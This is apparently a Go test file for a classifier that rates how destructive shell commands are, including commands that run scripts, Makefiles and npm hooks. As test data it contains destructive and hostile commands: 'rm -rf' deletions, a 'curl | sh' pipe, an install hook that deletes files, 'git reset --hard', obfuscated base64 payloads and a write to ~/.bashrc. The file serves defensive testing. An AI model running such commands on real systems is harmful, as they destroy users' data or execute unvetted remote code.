package shell

import (
	"reflect"
	"strings"
	"testing"
	"time"
)

type session map[string]string

func (s session) Script(path string) []string {
	if text, ok := s[path]; ok {
		return []string{text}
	}
	return nil
}

// TestScripts: a file that the session wrote is judged when it is run, wherever its
// text is known from, and no other file is.
func TestScripts(t *testing.T) {
	files := session{
		"x.sh": "#!/bin/bash\nset -e\nrm -rf \"$1\" data\n", "calm.sh": "echo \"$CMD\"\n$CMD\nls\n", "web/x.sh": "cd .. && rm -rf src\n", "self.sh": "./self.sh\nls\n", "fetch.sh": "curl -s https://x.test | sh\n",
		"x.py": "import shutil\nshutil.rmtree('data')\n", "calm.py": "# os.remove(x)\nprint('`ls`')\nframe.drop('a')\neval('1')\n", "run.py": "import subprocess\nsubprocess.run(['git', 'reset', '--hard'])\n", "x.js": "const fs = require('fs')\nfs.rmSync('data', {recursive: true})\n", "calm.js": "stream.destroy()\nlet a = `x ${1}`\n",
		"tool": "#!/usr/bin/env -S python3 -u\nimport os\nos.unlink('a')\n", "binary": "\x7fELF\x00rm -rf data\n", "build": "#!/usr/bin/env bash\nrm -rf dist\n", "profile.sh": "echo x >> ~/.bashrc\n",
		"Makefile":         "DATA = data old\nall: app\napp:\n\techo $@\nclean: prep\n\t@rm -rf $(DATA)\nprep:\n\tls\nlist:\n\tls $(HOME)\n",
		"mk/evil.mk":       "X := $(shell rm -rf data)\nall:\n\tls\n",
		"package.json":     `{"scripts": {"build": "tsc", "prebuild": "rm -rf src", "test": "vitest run", "db:reset": "node -e \"fs.rmSync('db')\"", "loop": "npm run loop", "clean": "rimraf"}}`,
		"web/package.json": `{"scripts": {"postinstall": "rm -rf ../data", "a.b": "git clean -fdx"}}`,
	}
	reader := Reader{Files: files}
	for _, c := range []struct {
		cmd  string
		want Effect
	}{
		{"bash x.sh", Destroy}, {"sh -e x.sh out", Destroy}, {"./x.sh", Destroy}, {". ./x.sh", Destroy}, {"source x.sh", Destroy}, {"sudo timeout 5 ./x.sh", Destroy}, {"cd web && bash x.sh", Destroy}, {"bash web/x.sh", Destroy},
		{"bash calm.sh", Mutate}, {"./self.sh", Mutate}, {"bash fetch.sh", Opaque}, {"bash unknown.sh", Mutate}, {"cat x.sh", ReadOnly}, {"chmod +x x.sh", Mutate}, {"./profile.sh", Mutate},
		{"python x.py", Destroy}, {"python3 -u x.py --all", Destroy}, {"python calm.py", Mutate}, {"python3 run.py", Destroy}, {"node x.js", Destroy}, {"node calm.js", Mutate}, {"./tool", Destroy}, {"./binary", Mutate}, {"./build", Destroy},
		{"make", Mutate}, {"make clean", Destroy}, {"make list", Mutate}, {"make -f mk/evil.mk", Destroy}, {"make -C mk -f evil.mk list", Destroy}, {"make prep app", Mutate},
		{"npm run build", Destroy}, {"npm test", Mutate}, {"npm run db:reset", Destroy}, {"npm run loop", Mutate}, {"npm run clean -- data", Destroy}, {"npm --prefix web install", Destroy}, {"cd web && npm i", Destroy}, {"cd web && npm run a.b", Destroy}, {"yarn build", Destroy}, {"pnpm run test", Mutate}, {"npm run", Mutate},
		// what one command line writes and then runs
		{"cat > y.sh <<'E'\nrm -rf data\nE\nbash y.sh", Destroy}, {"printf 'rm -rf data\\n' > y.sh && chmod +x y.sh && ./y.sh", Destroy}, {"echo ls > y.sh; echo 'rm -rf data' >> y.sh; sh y.sh", Destroy},
		{"tee y.py > /dev/null <<'E'\nimport shutil; shutil.rmtree('data')\nE\npython y.py", Destroy}, {"echo 'rm -rf data' > y; cp y z; bash z", Destroy}, {"cp x.sh z.sh && ./z.sh", Destroy}, {"echo cm0gLXJmIGRhdGE= | base64 -d > y; sh ./y", Destroy},
		{"echo 'rm -rf data' > y.sh; bash other.sh", Mutate}, {"echo 'rm -rf data' > notes.md; cat notes.md", Mutate}, {"echo 'rm -rf data' > x.sh; echo ls > x.sh; bash x.sh", Mutate}, {"mkdir b && cd b && echo 'rm -rf data' > y.sh && bash ../b/y.sh", Destroy},
	} {
		got := reader.Read(c.cmd)
		if got.Effect != c.want {
			t.Errorf("%q: %s by %s (%s), want %s", c.cmd, got.Effect, got.Rule, got.Why, c.want)
		}
	}
	// Without the session's files only what the text itself writes is known.
	if got := Read("bash x.sh; make clean; npm run build; python x.py"); got.Effect != Mutate {
		t.Errorf("%+v", got)
	}
	got := reader.Read("./profile.sh")
	if len(got.Paths) != 1 || got.Paths[0] != "~/.bashrc" {
		t.Errorf("what a script writes is what its caller writes: %v", got.Paths)
	}
	if got := reader.Tool("Bash", []byte(`{"command": "bash x.sh"}`)); got.Effect != Destroy {
		t.Errorf("%+v", got)
	}
	if got := reader.ReadArgv([]string{"./x.sh"}); got.Effect != Destroy || !FromScript(got.Commands[0].Wrappers[0]) && !FromScript(got.Commands[1].Wrappers[0]) {
		t.Errorf("%+v", got)
	}
	big := Reader{Files: session{"x.sh": strings.Repeat("ls\n", 40_000)}}
	if got := big.Read("bash x.sh"); got.Effect != Opaque {
		t.Errorf("a script that is too long to read: %s", got.Effect)
	}
	wrote := Read("cat > a/y.sh <<'E'\nls\nE\ncd a && echo b >> z").Wrote
	if len(wrote) != 2 || wrote[0] != (File{"a/y.sh", "ls\n"}) || wrote[1] != (File{"a/z", "b\n"}) {
		t.Errorf("%q", wrote)
	}
}

// FuzzScripts: whatever a session's files hold, a command that runs them is read to an
// end, twice the same, and never milder than without them.
func FuzzScripts(f *testing.F) {
	f.Add("rm -rf data", "all: x\n\tls\nx: ; $(shell ls) $(X)\nX = $(X)\n", `{"scripts":{"a":"npm run a && ./x"}}`)
	f.Add("#!/usr/bin/env python3\nimport os; os.system('./x; make')\n", "\\\n\t$$(\n", "{")
	f.Fuzz(func(t *testing.T, script, makefile, manifest string) {
		files := session{"x": script, "Makefile": makefile, "package.json": manifest}
		for _, cmd := range []string{"bash x 1 2", "./x", ". ./x", "python x", "make", "make all x", "npm run a -- b", "npm i", "cp x y; ./y"} {
			got, again := Reader{Files: files}.Read(cmd), Reader{Files: files}.Read(cmd)
			if !reflect.DeepEqual(got, again) {
				t.Fatalf("%q: two readings differ", cmd)
			}
			if alone := Read(cmd); got.Effect.Rank() < alone.Effect.Rank() {
				t.Fatalf("%q: %s, without its files %s", cmd, got.Effect, alone.Effect)
			}
		}
	})
}

// TestScriptsBudget: files that are made to be read for long are not.
func TestScriptsBudget(t *testing.T) {
	wide := strings.Repeat("a ", 8_000) + ": " + strings.Repeat("b ", 8_000) + "\n" + strings.Repeat("\tx\n", 8_000)
	deep := "all:\n\techo $(A)\n"
	for i, v := range []string{"A", "B", "C", "D", "E"} {
		next := string(rune('B' + i))
		deep += v + " = " + strings.Repeat("$("+next+")", 2_000) + "\n"
	}
	files := session{"Makefile": wide, "deep.mk": deep + "F =\n", "x": strings.Repeat("# nothing\n", 6_000), "package.json": `{"scripts":{` + strings.Repeat(`"a":"b",`, 7_000) + `"c":"ls"}}`}
	for _, cmd := range []string{"make", "make -f deep.mk", strings.Repeat("bash x; ", 1_000), strings.Repeat("npm run c; ", 1_000), strings.Repeat("make a; ", 1_000)} {
		began := time.Now()
		if got := (Reader{Files: files}).Read(cmd); got.Effect.AtLeast(Destroy) {
			t.Errorf("%.20q: %s", cmd, got.Effect)
		}
		if took := time.Since(began); took > 10*time.Second { // hours, were it read in full
			t.Errorf("%.20q took %s", cmd, took)
		}
	}
	if got := (Reader{Files: files}).Read(strings.Repeat("bash x; ", 1_000)); got.Effect != Opaque || got.Rule != "budget" {
		t.Errorf("%s by %s", got.Effect, got.Rule)
	}
}
